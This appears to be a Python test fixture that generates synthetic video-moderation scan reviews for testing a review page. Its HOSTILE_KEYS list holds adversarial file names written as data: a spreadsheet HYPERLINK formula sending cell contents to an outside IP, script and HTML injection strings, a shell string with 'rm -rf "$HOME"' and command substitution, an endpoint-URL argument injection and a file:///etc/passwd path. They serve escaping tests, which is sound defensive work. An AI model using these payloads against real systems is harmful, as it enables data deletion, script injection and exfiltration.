"""Reviews as a real scan leaves them, and hostile ones, for the tests of the page and its screenshots."""

import math
import random
from dataclasses import replace
from datetime import UTC, datetime

from handlers.domain import taxonomy
from handlers.domain.decision import Decision
from handlers.domain.identity import Video
from handlers.domain.record import BatchJob, LabelSummary, ObjectFacts, Problem, Record, Scan, Segment, Totals
from handlers.domain.states import ScanStatus, State
from tools.lib.cli import Target
from tools.lib.review.join import ObjectResult, ObjectStatus, TruthTable
from tools.lib.review.page import page_data
from tools.lib.review.summary import FlaggedVideo, review_of

SCAN = "01JD8Z0Q4N6T9W2XK5C7R3VBHM"
BUCKET = "amzn-s3-demo-bucket"
MADE_AT = 1_793_551_380.0

HOSTILE_KEYS = (
    '=HYPERLINK("http://198.51.100.7/?"&A1,"open").mp4',
    "<script>document.title='owned'</script>.mp4",
    "</script><img src=x onerror=\"document.title='owned'\">.mp4",
    "<!--<script>.mp4",
    "javascript:document.title='owned'//.mp4",
    'it\'s; rm -rf "$HOME" `id` $(id) !! \\ %2e%2e {a,b} ~ # & | * ?.mp4',
    "line\nbreak\ttab\x1b[31mred\x07\x7f.mp4",
    "invoice\u202e4pm.exe",
    "zero\u200bwidth\ufeff\u00a0space.mp4",
    "--endpoint-url=http://198.51.100.7",
    "file:///etc/passwd",
    "a//b/../c/./d/",
    "映画/予告編 ñandú 🎬.mp4",
    "فيديو/مقطع.mp4",
    "$data ${script} $$ %s {0}.mp4",
    "__proto__",
    "k" * 1_024,
)

VERSIONS = ("3/L4kqtJlcpXroDTDmJ+rmSpXd3dIbrHY'x", None, None)

_FOLDERS = ("uploads/2019/", "uploads/2023/spring/", "archive/tapes/", "user-content/eu/", "trailers/")
_NAMES = ("clip", "interview", "highlights", "party", "match", "holiday", "stage", "street", "review", "unboxing")
_FAILURES = (
    ("InvalidS3ObjectException", "Unable to get object metadata from S3. Check object key, region and/or access permissions."),
    ("VideoTooLargeException", "The video is longer than six hours."),
    ("result-lost", "Its result was not fetched within 6 days."),
    ("analysis-failed", "Unsupported codec/format."),
)


def label_paths():
    """Return every label of the taxonomy with its parents, as [top, second, third]."""
    for top, seconds in taxonomy.HIERARCHY.items():
        yield [top]
        for second, thirds in seconds.items():
            yield [top, second]
            yield from ([top, second, third] for third in thirds)


def flagged(key, dice, *, segments=None, version=None, unknown=None):
    """Return a flagged video with findings drawn by these dice; `unknown` adds a label that no taxonomy knows."""
    paths = dice.sample([path for path in label_paths() if len(path) > 1], dice.choice((1, 1, 1, 2, 2, 3)))
    duration = int(60_000 * math.exp(dice.uniform(0, 4.8)))
    found = [_segment(path, duration, dice) for path in paths for _ in range(dice.randint(1, 9))]
    found = [_segment(dice.choice(paths), duration, dice) for _ in range(segments)] if segments else found
    if unknown:
        found.append(Segment(unknown, "", 1, 0, 1_000, 91.0, 2))
    found.sort(key=lambda segment: segment.start_ms)
    video = Video(BUCKET, key, version)
    labels = _roll_up(found)
    counted = [label.name for label in sorted(labels, key=lambda label: -label.confidence) if label.confidence >= 75]
    record = Record(
        video, SCAN, State.FLAGGED, facts=ObjectFacts(f"{dice.getrandbits(128):032x}", duration * 400, version),
        duration_ms=duration, labels=labels, counted=tuple(counted or [labels[0].name]), model_version="7.0",
    )  # fmt: skip
    return ObjectResult(video, ObjectStatus.FLAGGED, record), tuple(found)


def failed(key, dice):
    """Return a failed video."""
    reason, message = dice.choice(_FAILURES)
    video = Video(BUCKET, key)
    record = Record(video, SCAN, State.FAILED, problem=Problem(reason, message))
    return ObjectResult(video, ObjectStatus.FAILED, record, reason, message)


def ineligible(number):
    """Return an object that was left out of the job."""
    reason = ("archived", "empty", "too-large")[number % 3]
    return ObjectResult(Video(BUCKET, f"tapes/{number:03}.mp4"), ObjectStatus.INELIGIBLE, None, reason, "left out of the batch job")


def _segment(path, duration, dice):
    start = dice.randrange(0, max(1, duration - 1_000))
    end = min(duration, start + dice.choice((0, 500, 2_000, 8_000, 30_000)))
    confidence = min(99.9, 50 + 50 * dice.betavariate(4, 1.3))
    return Segment(path[-1], path[-2], len(path), start, end, confidence, 1 + (end - start) // 500)


def _roll_up(segments):
    names = dict.fromkeys(segment.label for segment in segments)
    groups = {name: [segment for segment in segments if segment.label == name] for name in names}
    return tuple(
        LabelSummary(
            name, group[0].parent, group[0].level, max(each.confidence for each in group),
            sum(each.end_ms - each.start_ms for each in group), group[0].start_ms,
        )
        for name, group in groups.items()
    )  # fmt: skip


def realistic_keys(count, dice):
    """Return `count` different keys as cameras and people name them."""
    return [f"{dice.choice(_FOLDERS)}{dice.choice(_NAMES)}-{number:05}.mp4" for number in range(count)]


def review(
    *,
    flagged_count=46,
    failed_count=6,
    ineligible_count=0,
    clean=1_180,
    keys=(),
    seed=7,
    unknown=None,
    segments=None,
    versions=VERSIONS,
    not_selected=None,
):
    """Return the review of a scan and its totals; `keys` are flagged too, with these `versions` in turn."""
    dice = random.Random(seed)
    found = dict(flagged(key, dice, segments=segments) for key in realistic_keys(flagged_count, dice))
    for number, key in enumerate(keys):
        outcome, its_segments = flagged(key, dice, version=versions[number % len(versions)], unknown=unknown)
        found[outcome] = its_segments
    failures = [failed(f"broken/{key}", dice) for key in realistic_keys(failed_count, dice)]
    others = [ObjectResult(Video(BUCKET, f"clean/{number}"), ObjectStatus.CLEAN) for number in range(clean)]
    others += [
        ObjectResult(Video(BUCKET, f"thumbs/{number}.txt"), ObjectStatus.SKIPPED, reason="not-a-video") for number in range(8)
    ]
    others += [ineligible(number) for number in range(ineligible_count)]
    outcomes = [*found, *failures, *others]
    truth = TruthTable(expected=len(outcomes))
    job = BatchJob("00000000-0000-4000-8000-000000000001", "Complete", len(outcomes), len(outcomes), 0)
    scan = Scan(
        SCAN,
        BUCKET,
        status=ScanStatus.CLOSED,
        created_at=MADE_AT - 90_000,
        objects=len(outcomes),
        jobs=(job,),
        not_selected=not_selected,
    )
    milliseconds = sum(outcome.record.duration_ms for outcome in found)
    totals = Totals({State.FLAGGED: len(found), State.CLEAN: clean}, {State.FLAGGED: milliseconds, State.CLEAN: clean * 251_000})
    return review_of(scan, _counted(outcomes, truth), truth, lambda outcome: found[outcome]), totals


def _counted(outcomes, truth):
    for outcome in outcomes:
        truth.count(outcome)
        yield outcome


def decided(outcome, judgement, note=""):
    """Return a result about which Ana has decided."""
    record = outcome.record
    at = datetime(2026, 10, 30, 10, tzinfo=UTC).timestamp()
    about = {"video": record.video, "etag": "etag", "scan_id": SCAN, "attempt": 0}
    return replace(outcome, decision=Decision(**about, judgement=judgement, note=note, decided_by="Ana", decided_at=at))


def clean(key):
    """Return a clean video, in which something was found below the policy's thresholds."""
    below = LabelSummary("Weapons", "Violence", 2, 55.0, 1_500, 2_000, counts_from=80.0)
    record = Record(Video(BUCKET, key), SCAN, State.CLEAN, facts=ObjectFacts("e1", 3, None), duration_ms=60_000, labels=(below,))
    return ObjectResult(record.video, ObjectStatus.CLEAN, record)


def with_decision(video, judgement, note=""):
    """Return a flagged video about which Ana has decided."""
    return replace(video, outcome=decided(video.outcome, judgement, note))


def page_of(made, totals, **more):
    """Return the page data of a review as the tool would make it."""
    target = Target(stack="VideoModeration", region=None, profile=None)
    return page_data(made, totals=totals, target=target, region="us-east-1", made_at=MADE_AT, **more)


def with_segments(outcome, count):
    """Return a flagged video with exactly `count` segments, one a second."""
    return FlaggedVideo(
        outcome, tuple(Segment("Weapons", "Violence", 2, at, at + 500, 60 + at % 40, 1) for at in range(0, count * 1_000, 1_000))
    )
